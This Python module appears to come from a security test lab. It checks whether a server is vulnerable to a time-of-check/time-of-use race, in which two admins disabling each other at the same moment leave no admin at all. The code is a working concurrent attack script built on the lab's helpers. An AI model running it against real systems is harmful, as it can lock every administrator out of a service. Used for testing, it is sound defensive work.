"""Shut an admin out who is shutting you out.

Exploits a server that looks whether somebody is an admin, and obeys later. Two admins who do it to
each other are both out, and nobody is left who could let anybody in: two thieves, or one with two
accounts, have shut all admins out.
Source: CWE-367 Time-of-check Time-of-use Race Condition,
https://cwe.mitre.org/data/definitions/367.html
ASVS: 15.4.2
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, broke, got_in, refused
from attacks.lab.roles import ALL, disable_request, enrol_admin, list_users
from attacks.lab.storms import must_serve_now, storm
from attacks.lab.target import NotApplicableError, Person, Target

ROUNDS, TIMES = 10, 8


def is_admin(target: Target, person: Person) -> bool:
    """Log in once more, and list all users."""
    answer = target.log_in(person.username, person.password, scope=ALL)
    return answer.is_success and list_users(target, answer.json()["access_token"]).is_success


@attack()
def run(target: Target) -> Outcome:
    """Let two admins disable each other at once, in a few rounds; see whether one is left."""
    for _ in range(ROUNDS):
        one, two = enrol_admin(target), enrol_admin(target)
        if not (is_admin(target, one) and is_admin(target, two)):
            raise NotApplicableError("an admin lists no users here")
        pair = [
            disable_request(target, target.tokens_of(own, scope=ALL)["access_token"], other)
            for own, other in ((one, two), (two, one))
        ]
        after = storm(pair * TIMES, target.page())
        must_serve_now(after)
        if after.unserved:
            return broke("some of many requests to shut each other out are not served")
        if not after.successes:
            raise NotApplicableError("no admin shuts the other one out here")
        if not (is_admin(target, one) or is_admin(target, two)):
            return got_in("two admins shut each other out at once: none is left")
    return refused(f"{ROUNDS} times two admins who shut each other out: one of them is left")
